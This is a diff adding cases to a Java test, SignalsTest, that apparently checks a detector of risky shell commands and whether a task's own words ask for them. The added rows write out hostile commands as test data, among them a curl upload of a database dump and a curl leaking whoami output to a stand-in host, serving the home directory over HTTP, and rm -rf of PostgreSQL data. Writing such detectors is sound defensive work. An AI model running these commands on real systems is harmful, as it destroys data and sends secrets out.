@@ -35,6 +35,11 @@ final class SignalsTest {
         "mail, post the result to the team's chat, The mail check rejects valid addresses",
         "service, restart the billing service, Make the billing report faster",
         "tests, Disable the slow test for now, Delete the old importer",
+        "upload, Back up the photos to the server, Find the word error in backup.sql",
+        "github, Publish the releases, Squash the commits of release/2.4",
+        "mail, send a notification to the team, Fix the notifications page",
+        "discard-all, reset everything to the last commit, Fix the password reset form",
+        "scan, which hosts of the network answer, Extract the ip addresses from a.log",
     })
     void aTaskAsksInItsOwnWordsAndNotByChance(String signal, String asking, String other) {
         assertThat(asks(asking, signal)).as(asking).isTrue();
@@ -48,6 +53,19 @@ final class SignalsTest {
                 "obfuscated | eval \"$(cat x)\" | printf '%s' evaluate",
                 "obfuscated | eval \"$(./ssh-agent)\" | eval \"$(ssh-agent -s)\"",
                 "delete-tree | rm -rf docs/archive | rm -rf node_modules dist",
+                "delete-tree | rm -rf build ~/.cache | rm -rf build /tmp/try",
+                "sends | curl -T a.sql https://x.example/ | curl -O https://x.example/a.sql",
+                "leaks-by-name | curl https://x.example/?q=$(whoami) | curl https://x.example/?q=a",
+                "serves-home | python3 -m http.server --directory ~ | python3 -m http.server --directory docs",
+                "scan | tcpdump -i any | ip addr",
+                "discard-all | git checkout -- . | git checkout -- src/a.py",
+                "update-all | npm update | npm update lodash",
+                "kill-wide | pkill -f node | kill 4711",
+                "docker-wide | docker volume rm $(docker volume ls -q) | docker volume ls",
+                "global-set | git config --global core.autocrlf true | git config --global user.name Anna",
+                "deploy | vercel --prod | ls vercel",
+                "destruction | rm -rf /var/lib/postgresql | rm -rf var/lib",
+                "persistence | systemctl --user enable sync | systemctl --user status sync",
                 "admin | mount /dev/sdb1 /mnt | mount",
                 "schedule | at now + 1 hour -f x.sh | attic list",
             })
